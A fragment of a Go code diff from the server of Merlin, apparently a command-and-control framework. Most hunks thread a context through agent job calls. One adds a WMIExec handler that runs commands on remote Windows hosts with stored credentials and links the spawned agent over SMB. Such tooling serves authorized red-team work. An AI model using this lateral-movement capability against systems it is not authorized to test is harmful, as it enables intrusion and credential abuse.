+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
+	if len(in.Arguments) < 2 {
+		err = fmt.Errorf("the Transport RPC call requires two arguments, have (%d): %+v", len(in.Arguments), in.Arguments)
+		slog.Error(err.Error())
+		return
+	}
+	args, err := s.transportConfig(in.Arguments[0], in.Arguments[1])
+	if err != nil {
+		slog.Error(err.Error())
+		return
+	}
+	return addJob(ctx, in.ID, "transport", args)
 }
 
 // UnlinkAgent instructs the parent Agent to close, or unlink, the connection with the child Agent
@@ -706,7 +947,7 @@ func (s *Server) UnlinkAgent(ctx context.Context, in *pb.AgentCMD) (msg *pb.Mess
 		slog.Error(err.Error())
 		return
 	}
-	return addJob(in.ID, "unlink", in.Arguments)
+	return addJob(ctx, in.ID, "unlink", in.Arguments)
 }
 
 // Upload transfers a file from the Merlin Server to the Agent
@@ -714,11 +955,25 @@ func (s *Server) UnlinkAgent(ctx context.Context, in *pb.AgentCMD) (msg *pb.Mess
 // in.Arguments[1] = the destination file path
 func (s *Server) Upload(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "upload", in.Arguments)
+	return addJob(ctx, in.ID, "upload", in.Arguments)
 }
 
 // Uptime retrieves the target host's uptime. Windows only
 func (s *Server) Uptime(ctx context.Context, id *pb.ID) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "id", id)
-	return addJob(id.Id, "uptime", []string{})
+	return addJob(ctx, id.Id, "uptime", []string{})
+}
+
+// WMIExec executes a command on a remote host with Windows Management Instrumentation using the Agent's current token
+// or credentials from the credential store. Windows only
+// in.Arguments[0] = the remote host to execute the command on
+// in.Arguments[1] = the command line to execute
+// in.Arguments[2] = the username to retrieve credentials for from the credential store (optional)
+// in.Arguments[3] = the name of the SMB listener, or named pipe, the spawned Agent uses to automatically link to it (optional)
+func (s *Server) WMIExec(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
+	if len(in.Arguments) > 3 {
+		in.Arguments[3] = s.smbPipe(in.Arguments[3])
+	}
+	return addJob(ctx, in.ID, "wmiexec", in.Arguments)
 }